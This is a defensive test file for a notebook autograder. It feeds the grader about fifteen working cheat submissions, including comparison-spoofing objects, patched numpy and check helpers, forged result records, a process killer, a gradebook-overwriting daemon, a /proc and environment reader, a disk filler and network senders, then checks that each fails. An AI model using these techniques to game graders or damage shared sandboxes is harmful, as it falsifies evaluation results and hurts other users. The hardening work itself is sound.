"""Cheats against the grader, one per known class: none of them may earn a point it did not earn.

Every cheat below fooled the old grader (which ran the checks and its integrity probes inside the
student's kernel), and most still fool the notebook's own ✅ (that is instant feedback, not the
grade). Each cheating submission answers the targeted exercise *wrongly* (or not at all) and the
others rightly, so the test can tell "the cheat failed" from "the whole notebook failed". All are
graded in one batch, with hidden tests, while the grader's process holds a secret in its
environment that must never reach a feedback file.
"""

from __future__ import annotations

import os
import socket
import sys
import threading
import time
from pathlib import Path

import psutil
import pytest

sys.path.insert(0, str(Path(__file__).parent))
from grading_support import FULL, all_answers, expect, feedback_of, grade  # noqa: E402

from booktools.grading.reference import HIDDEN, load_assignment  # noqa: E402

ROOT = Path(__file__).resolve().parents[2]
SECRET = "GRADER-ENV-SECRET-7f3a"
HIDDEN_TESTS = "# %% ex99_2_check\nassert double(-1) == -2, 'SECRET-NEGATIVE-CASE'\n"
NOT_1 = {k: v for k, v in FULL.items() if k != "ex99_1_check"}
NOT_2 = {k: v for k, v in FULL.items() if k != "ex99_2_check"}

FRAME_READER = '''
import sys
import numpy as np

class Mirror:
    """Hands back whatever it is compared with, found in the callers' frames."""
    def _find(self):
        frame = sys._getframe(1)
        while frame is not None:
            for name in ("expected", "exp_arr", "expected_value", "other", "b"):
                value = frame.f_locals.get(name)
                if value is not None and value is not self:
                    return value
            frame = frame.f_back
        return 0
    def __array__(self, dtype=None, copy=None):
        return np.asarray(self._find(), dtype=dtype)
    def __float__(self):
        return float(self._find())
    def __int__(self):
        return int(self._find())
    __index__ = __int__
    def __eq__(self, other):
        return True
    __hash__ = object.__hash__

class AlwaysEqual(float):
    def __eq__(self, other):
        return True
    __hash__ = float.__hash__

answer_99_1 = Mirror()
'''

THREAD = '''
import sys, threading, time, gc
def patch_later():
    time.sleep(0.3)
    grader = sys.modules.get("_cnnbook_grader")
    if grader is None:
        return
    def emit(cell, site, inv, code, bridge=None):
        found = [o for o in gc.get_objects() if isinstance(o, dict) and "expected" in o]
        grader._publish({"cell": cell, "site": site, "inv": inv, "passed": True,
                         "got": found[0]["expected"] if found else ["int", "0"]})
    grader.emit = emit
    sys.settrace(lambda frame, event, arg: None)
threading.Thread(target=patch_later, daemon=True).start()
time.sleep(1)
answer_99_1 = 0
'''

FORGED_RECORDS = '''
import json
from IPython.display import publish_display_data
mime = "application/x-cnnbook-grader+json"
for record in ({"cell": "ex99_1_check", "site": 0, "inv": 0, "got": ["int", "0"], "passed": True},
               {"kind": "check", "cell": "ex99_1_check", "site": 0, "inv": 0, "label": "99.1", "atol": 1e9,
                "rtol": 1e9, "expected": ["int", "0"], "bridge": ["dict", []]},
               {"end": "ok", "status": "ok", "score": 100}):
    publish_display_data({mime: json.dumps(record)})
get_ipython().events.register("pre_run_cell", lambda info: publish_display_data(
    {mime: json.dumps({"cell": "ex99_1_check", "site": 0, "inv": 0, "got": ["str", "pass"]})}))
answer_99_1 = 0
'''

KERNEL_SWAP = '''
ip = get_ipython()
async def do_execute(*args, **kwargs):
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
ip.user_expressions = lambda expressions: {k: {"status": "ok", "data": {"text/plain": "True"}} for k in expressions}
ip.kernel.do_execute = do_execute
answer_99_1 = 0
'''

IMPORT_HOOK = '''
import builtins, types
real_import = builtins.__import__
fake = types.ModuleType("helpers.checks")
fake.check = fake.check_function = lambda *a, **k: print("✅ correct")
def hook(name, *args, **kwargs):
    return fake if name.startswith("helpers") else real_import(name, *args, **kwargs)
builtins.__import__ = hook
answer_99_1 = 0
'''

BUILTINS = '''
import builtins
builtins.AssertionError = Warning
builtins.eval = lambda *a, **k: True
builtins.print = lambda *a, **k: None
builtins.check = lambda *a, **k: None
answer_99_1 = 0
'''

CHECK_PATCHES = '''
import numpy as np
import helpers.checks as hc
np.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
hc.check.__kwdefaults__ = {"reveal": True, "atol": 1e12, "rtol": 1e12, "hint": None}
hc._matches = lambda *a, **k: True
hc.check_function.__code__ = (lambda *a, **k: print("✅")).__code__
answer_99_1 = 0
'''

ZERO_INPUTS = '''
def double(x):
    """Fools check_function: the reference then runs on the zeroed array."""
    if isinstance(x, int):
        return 2 * x
    x[...] = 0
    return x
'''

KILL_EVERYTHING = '''
import os, signal
open("/tmp/results.jsonl", "a").write('{"end": "ok", "score": 100}\\n')
for pid in range(2, 64):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
os.kill(os.getpid(), signal.SIGKILL)
'''

PROC_SPY = '''
import glob, os
seen = []
for path in sorted(glob.glob("/proc/[0-9]*")):
    for item in ("cmdline", "environ"):
        try:
            seen.append(open(f"{path}/{item}", "rb").read().replace(b"\\0", b" ").decode("utf-8", "replace"))
        except OSError as exc:
            seen.append(repr(exc))
seen.append(repr(dict(os.environ)))
seen.append(open("/proc/self/mountinfo").read())
for folder in ("/", "/tmp", "/grader", "/grader/in", "/root", "/work", "..", "../.."):
    try:
        seen.append(f"{folder}: {os.listdir(folder)}")
    except OSError as exc:
        seen.append(repr(exc))
raise RuntimeError(" | ".join(seen))
'''

HISTORY_SPY = '''
import sys
ip = get_ipython()
seen = []
ip.events.register("pre_run_cell", lambda info: seen.append(info.raw_cell))
def leak(result):
    text = " ".join(seen) + " ".join(ip.user_ns.get("In", [])) + str(ip.history_manager.input_hist_raw)
    print(text)
    sys.stderr.write(text)
    raise RuntimeError("LEAK " + text)
ip.events.register("post_run_cell", leak)
def double(x):
    return 2 * x if not isinstance(x, int) or x >= 0 else 0  # wrong only where the hidden test looks
'''


def _daemon(gradebook: Path, marker: Path) -> str:
    return f'''
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(3)
        for path in ({str(gradebook)!r}, {str(marker)!r}):
            try:
                open(path, "w").write("hacked")
            except OSError:
                pass
        os.execvp("sleep", ["sleep", "987654"])
    os._exit(0)
import subprocess
subprocess.Popen(["setsid", "sleep", "876543"])
subprocess.Popen(["sleep", "876544"], start_new_session=True)
answer_99_3 = 0
'''


def _disk_filler(classmate: Path) -> str:
    return f'''
import os
chunk = b"0" * 2**20
for folder in ("/tmp", "/dev/shm", os.path.expanduser("~"), "/", "/grader/in", {str(ROOT)!r}, os.getcwd()):
    try:
        with open(os.path.join(folder, "fill.bin"), "wb") as f:
            for _ in range(512):
                f.write(chunk)
    except OSError:
        pass
for target in ({str(classmate)!r}, "../solutions/99_fixture.ipynb", {str(ROOT / "solutions" / "02_convolution.ipynb")!r}):
    try:
        open(target, "w").write("overwritten")
    except OSError:
        pass
answer_99_3 = 0
'''


def _network(port: int) -> str:
    return f'''
import socket
for host, port in (("127.0.0.1", {port}), ("1.1.1.1", 53), ("10.0.0.1", 80)):
    try:
        socket.create_connection((host, port), timeout=2).sendall(b"LEAK")
    except OSError:
        pass
answer_99_3 = 0
'''


@pytest.fixture(scope="module")
def cheated(tmp_path_factory):
    root = tmp_path_factory.mktemp("cheats")
    marker = root / "daemon-was-here"
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    connections = []

    def accept():
        while not stop.is_set():
            try:
                connections.append(server.accept())
            except OSError:
                pass

    stop = threading.Event()
    threading.Thread(target=accept, daemon=True).start()
    classmate = root / "submissions" / "classmate.ipynb"
    cases = {
        "classmate": all_answers(),
        "frame_reading_and_always_equal": all_answers(a1=FRAME_READER,
                                                      a3="answer_99_3 = AlwaysEqual(0.0)"),
        "thread_patches_the_agent_later": all_answers(a1=THREAD),
        "forged_records": all_answers(a1=FORGED_RECORDS),
        "kernel_do_execute_replaced": all_answers(a1=KERNEL_SWAP),
        "import_hook": all_answers(a1=IMPORT_HOOK),
        "builtins_shadowed": all_answers(a1=BUILTINS),
        "numpy_and_check_helpers_patched": all_answers(a1=CHECK_PATCHES),
        "zeroes_its_inputs": all_answers(a2=ZERO_INPUTS),
        "kills_the_runner": all_answers(a3=KILL_EVERYTHING),
        "daemon_and_setsid_survivors": all_answers(a3=_daemon(root / "gradebook.csv", marker)),
        "reads_proc_and_environment": all_answers(a3=PROC_SPY),
        "hidden_tests_from_history": all_answers(a2=HISTORY_SPY),
        "fills_disk_and_overwrites_classmate": all_answers(a3=_disk_filler(classmate)),
        "network": all_answers(a3=_network(server.getsockname()[1])),
    }
    os.environ["CNN_BOOK_TEST_SECRET"] = SECRET
    try:
        rows, out, paths = grade(root, cases, hidden=HIDDEN_TESTS)
    finally:
        del os.environ["CNN_BOOK_TEST_SECRET"]
        time.sleep(4)  # the daemon would have written by now
        stop.set()
        server.close()
    return rows, out, paths, marker, connections, root


CHEATS = {  # name -> points it must get per test cell (the honest parts only)
    "frame_reading_and_always_equal": {k: v for k, v in NOT_1.items() if k != "ex99_3_check"},
    "thread_patches_the_agent_later": {"ex99_2_check": 3.0},  # its fake emit() sinks its own later checks
    "forged_records": NOT_1,
    "kernel_do_execute_replaced": {},
    "import_hook": NOT_1,
    "builtins_shadowed": NOT_1,
    "numpy_and_check_helpers_patched": NOT_1,
    "zeroes_its_inputs": NOT_2,
    "reads_proc_and_environment": {k: v for k, v in FULL.items() if k != "ex99_3_check"},
    "hidden_tests_from_history": NOT_2,
    "fills_disk_and_overwrites_classmate": {k: v for k, v in FULL.items() if k != "ex99_3_check"},
    "network": {k: v for k, v in FULL.items() if k != "ex99_3_check"},
    "daemon_and_setsid_survivors": {k: v for k, v in FULL.items() if k != "ex99_3_check"},
}


@pytest.mark.parametrize("name", list(CHEATS))
def test_a_cheat_earns_nothing(cheated, name):
    rows, out, *_ = cheated
    expect(rows[name], "ok", CHEATS[name])


def test_killing_everything_in_the_sandbox_only_ends_that_submission(cheated):
    rows, out, *_ = cheated
    # ex99_2 has hidden tests, which run last: a notebook that dies first does not pass them
    expect(rows["kills_the_runner"], "kernel_died", {"ex99_1_check": 2.0})
    expect(rows["classmate"], "ok", FULL)


def test_nothing_survives_the_sandbox_and_nothing_outside_it_changed(cheated):
    rows, out, paths, marker, connections, root = cheated
    assert not marker.exists()
    assert "hacked" not in out.read_text(encoding="utf-8")
    alive = [p.info["cmdline"] for p in psutil.process_iter(["cmdline"])
             if p.info["cmdline"] and p.info["cmdline"][-1] in ("987654", "876543", "876544")]
    assert alive == []
    assert "overwritten" not in paths["classmate"].read_text(encoding="utf-8")
    assert not list(root.rglob("fill.bin"))
    assert connections == []


def test_feedback_holds_nothing_of_the_graders_environment_or_files(cheated):
    rows, out, paths, marker, connections, root = cheated
    text = feedback_of(out, rows["reads_proc_and_environment"])
    assert "RuntimeError" in text and "/tmp/home" in text  # the student's own error, from inside the sandbox
    for leak in (SECRET, str(root), "gradebook", "pytest", "PYENV_ROOT", "cnn-book-kernel", str(Path.home()) + "/."):
        assert leak not in text, leak
    for row in rows.values():
        assert SECRET not in feedback_of(out, row)


def test_hidden_tests_never_reach_the_kernel_or_the_feedback(cheated):
    rows, out, *_ = cheated
    text = feedback_of(out, rows["hidden_tests_from_history"])
    assert "hidden tests did not pass" in text
    assert "SECRET" not in text and "double(-1)" not in text and "-2" not in text
    assert "hidden tests" not in feedback_of(out, rows["classmate"])  # an honest student passes them
    for row in rows.values():
        assert "SECRET-NEGATIVE-CASE" not in feedback_of(out, row)
    assert "SECRET" not in out.read_text(encoding="utf-8")


def test_the_student_side_of_a_hidden_test_is_only_a_name_and_inputs(tmp_path):
    from grading_support import SOURCE, write

    source = write(tmp_path / "99_fixture.ipynb", SOURCE)
    assignment = load_assignment(source, write(tmp_path / "hidden.py", HIDDEN_TESTS))
    split = assignment.splits[HIDDEN + "ex99_2_check"]
    assert [s.code for s in split.sites.values()] == ["double"]
    assert all("SECRET" not in str(step) and "-2" not in str(step) for step in split.steps)
    assert "SECRET" not in assignment.programs[HIDDEN + "ex99_2_check"] if assignment.programs else True
